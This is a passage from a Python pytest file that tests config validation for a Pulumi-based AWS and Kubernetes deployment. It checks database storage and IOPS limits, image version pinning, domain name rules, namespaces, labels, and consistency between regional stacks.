    from config.models import GP3_IOPS_THRESHOLD_GB, GP3_LARGE_BASELINE_IOPS, GP3_SMALL_IOPS

    small = GP3_IOPS_THRESHOLD_GB - 1
    (msg,) = problems(values(sofacover__database={
        "allocatedStorageGb": small, "iops": GP3_SMALL_IOPS + 1}))
    assert f"sofacover:database.iops is {GP3_SMALL_IOPS + 1} but gp3 below" in msg
    parse(values(sofacover__database={"allocatedStorageGb": small, "iops": GP3_SMALL_IOPS}))
    (msg,) = problems(values(sofacover__database={
        "allocatedStorageGb": GP3_IOPS_THRESHOLD_GB, "iops": GP3_LARGE_BASELINE_IOPS - 1}))
    assert f"starts at {GP3_LARGE_BASELINE_IOPS}" in msg
    # another storage type is not held to gp3's numbers
    parse(values(sofacover__database={"allocatedStorageGb": small, "storageType": "io2",
                                      "iops": GP3_LARGE_BASELINE_IOPS}))


def test_max_connections_stays_within_postgresqls_ceiling():
    (msg,) = problems(values(sofacover__database={"maxConnections": 262_144}))
    assert "sofacover:database.maxConnections is 262144" in msg


@pytest.mark.parametrize("image", ["nginx", "nginx:latest", "ghcr.io/sofacover/app",
                                   "localhost:5000/app:latest"])
def test_images_must_name_a_version_not_latest(image):
    (msg,) = problems(values(sofacover__compute={"appImage": image}))
    assert f"sofacover:compute.appImage is {image!r}: names no version" in msg
    (msg,) = problems(values(sofacover__kubernetes=_services({"name": "cart", "image": image})))
    assert f"sofacover:kubernetes.services[1].image is {image!r}: names no version" in msg


@pytest.mark.parametrize("name, ok", [
    ("xn--bcher-kva.example", True), ("shop.sofacoverpro.com", True),
    ("xn--zz.example", False), ("ab--cd.example", False), ("-shop.example", False),
    ("Shop.example", False), ("shop..example", False),
])
def test_domain_names_follow_the_hostname_and_idna_rules(name, ok):
    vals = values(sofacover__compute={"domainName": name})
    if ok:
        assert parse(vals).compute.domain_name == name
    else:
        (msg,) = problems(vals)
        assert f"sofacover:compute.domainName is {name!r}" in msg


@pytest.mark.parametrize("edge, key", [
    ({"zoneName": "xn--zz.com"}, "zoneName"),
    ({"hostnames": ["www", "bad_host"]}, "hostnames[1]"),
    ({"hostnames": []}, "hostnames"),
    ({"healthCheckPath": "healthz"}, "healthCheckPath"),
])
def test_edge_names_and_paths_are_checked(edge, key):
    vals = edge_stack("1", {seed.PRIMARY_REGION: "prod"})
    doc = json.loads(vals["sofacover:edge"])
    vals["sofacover:edge"] = json.dumps({**doc, **edge})
    assert any(f"sofacover:edge.{key} is " in p for p in problems(vals, stack="prod-edge"))


@pytest.mark.parametrize("service, key", [
    ({"cpuRequest": "0"}, "cpuRequest"), ({"memoryRequest": "0Mi"}, "memoryRequest"),
    ({"memoryRequest": "512m"}, "memoryRequest"), ({"healthPath": "healthz"}, "healthPath"),
])
def test_service_requests_and_paths_the_cluster_could_not_use_are_refused(service, key):
    (msg,) = problems(values(sofacover__kubernetes=_services({"name": "cart", **service})))
    assert f"sofacover:kubernetes.services[1].{key} is " in msg


@pytest.mark.parametrize("namespace", ["default", "kube-system", "kube-anything", "data"])
def test_the_app_namespace_is_one_the_program_can_create(namespace):
    (msg,) = problems(values(sofacover__kubernetes={"namespace": namespace}))
    assert f"sofacover:kubernetes.namespace is {namespace!r}" in msg


def test_prometheus_gets_its_own_namespace_on_kubernetes():
    from config.models import DATA_NAMESPACE

    for taken in ("sofacover", DATA_NAMESPACE, "kube-system"):
        (msg,) = problems(values(sofacover__phase="2",
                                 sofacover__alerts={"prometheusNamespace": taken}))
        assert f"sofacover:alerts.prometheusNamespace is {taken!r}, which" in msg
    # on ec2 (phase 1) nothing runs Prometheus in a cluster
    parse(values(sofacover__alerts={"prometheusNamespace": "sofacover"}))


@pytest.mark.parametrize("labels, ok", [
    ({}, False), ({"bad key!": "x"}, False), ({"release": "-x"}, False),
    ({"release": "x" * 64}, False), ({"Example.com/team": "a"}, False),
    ({"app.kubernetes.io/part-of": "sofacover", "tier": ""}, True),
])
def test_prometheus_rule_labels_are_kubernetes_labels(labels, ok):
    vals = values(sofacover__alerts={"prometheusRuleLabels": labels})
    if ok:
        assert parse(vals).alerts.prometheus_rule_labels == labels
    else:
        (msg,) = problems(vals)
        assert "sofacover:alerts.prometheusRuleLabels is " in msg


@pytest.mark.parametrize("value", ["a\nb", "a\tb", "a\rb"])
def test_tag_values_hold_no_line_breaks_or_tabs(value):
    (msg,) = problems(values(sofacover__tags={"Team": value}))
    assert "sofacover:tags is " in msg


def test_every_pgbouncer_pod_gets_a_server_connection_on_kubernetes():
    (msg,) = problems(values(sofacover__phase="2", sofacover__pgbouncer={
        "replicas": 5, "maxServerConnections": 4}))
    assert "sofacover:pgbouncer.replicas is 5 but maxServerConnections is 4" in msg


# --- the environment as a whole (planner/project.py, --env) --------------------------------

def _env_problems(root) -> list[str]:
    from planner.project import Project

    with pytest.raises(ConfigError) as exc:
        Project(root).rollout("prod")
    return exc.value.problems


def _set(root, stack: str, text: str) -> None:
    path = root / f"Pulumi.{stack}.yaml"
    path.write_text(path.read_text() + text)


def test_a_secondarys_primary_region_must_be_the_primary_stacks(tmp_path):
    from tests.test_program import copy_project

    root = copy_project(tmp_path)
    path = root / "Pulumi.prod-eu-west-1.yaml"
    path.write_text(path.read_text().replace(f"region: {seed.PRIMARY_REGION}",
                                             "region: us-east-2"))
    assert ("Pulumi.prod-eu-west-1.yaml: sofacover:primary.region is us-east-2 but stack "
            f"prod's aws:region is {seed.PRIMARY_REGION}") in " ".join(_env_problems(root))


@pytest.mark.parametrize("database, words", [
    ({"engineVersion": "'15'"}, "engineVersion is 15 but the primary prod runs "),
    ({"instanceClass": "db.r6g.large"}, "instanceClass is db.r6g.large but the primary"),
    ({"allocatedStorageGb": 400}, "allocatedStorageGb is 400 but the primary"),
])
def test_a_replica_follows_its_primary(tmp_path, database, words):
    from tests.test_program import copy_project

    root = copy_project(tmp_path)
    lines = "".join(f"    {k}: {v}\n" for k, v in database.items())
    _set(root, f"prod-{seed.READ_REPLICA_REGIONS[0]}", f"  sofacover:database:\n{lines}")
    (msg,) = [p for p in _env_problems(root) if "sofacover:database." in p]
    assert msg.startswith(f"Pulumi.prod-{seed.READ_REPLICA_REGIONS[0]}.yaml: ")
    assert words in msg


def test_stacks_may_be_at_different_phases_while_a_phase_moves(tmp_path):
    # Nothing a stack reads depends on its source's phase: the primary's outputs (VPC,
    # database, peer group) exist in every phase, and the edge serves only from origins
    # that report serving (tests/test_global.py plans it ahead of the secondaries).
    from planner.project import Project
    from tests.test_program import copy_project

    root = copy_project(tmp_path)
    for stack, phase in (("prod-edge", 3), ("prod-us-west-2", 2), ("prod", 1)):
        path = root / f"Pulumi.{stack}.yaml"
        path.write_text(path.read_text().replace("sofacover:phase: 1",
                                                 f"sofacover:phase: {phase}"))
    phases = {c.stack: c.phase for c in Project(root).rollout("prod")}
    assert phases["prod-edge"] == 3 and phases["prod-us-west-2"] == 2 and phases["prod"] == 1


def test_a_vpc_spans_only_zones_where_eks_can_run():
    from config.regions import EKS_UNSUPPORTED_ZONES, usable_az_count

    region = seed.PRIMARY_REGION
    assert EKS_UNSUPPORTED_ZONES[region]  # us-east-1 has one (use1-az3)
    (msg,) = problems(values(sofacover__network={"azCount": usable_az_count(region) + 1}))
    assert f"{usable_az_count(region)} without {EKS_UNSUPPORTED_ZONES[region][0]}" in msg
    parse(values(sofacover__network={"azCount": usable_az_count(region)}))


def test_a_service_path_longer_than_an_alb_path_pattern_is_refused():
    long_path = "/" + "a" * 127 + "*"
    (msg,) = problems(values(sofacover__kubernetes=_services({"name": "cart",
                                                              "path": long_path})))
    assert "sofacover:kubernetes.services[1].path is " in msg
    fits = "/" + "a" * 126 + "*"  # 128 characters
    parse(values(sofacover__kubernetes=_services({"name": "cart", "path": fits})))


def test_the_cluster_minor_must_have_a_pinned_cluster_autoscaler_on_kubernetes():
    from config.offerings import CLUSTER_AUTOSCALER_RELEASES, eks_versions

    unpinned = next(v for v in eks_versions() if v not in CLUSTER_AUTOSCALER_RELEASES)
    (msg,) = problems(values(sofacover__phase="2", sofacover__kubernetes={"version": unpinned}))
    assert f"sofacover:kubernetes.version is {unpinned} but Cluster Autoscaler is pinned" in msg
    parse(values(sofacover__phase="2", sofacover__kubernetes={
        "version": unpinned, "autoscaler": {"enabled": False}}))
    parse(values(sofacover__kubernetes={"version": unpinned}))  # phase 1: no cluster
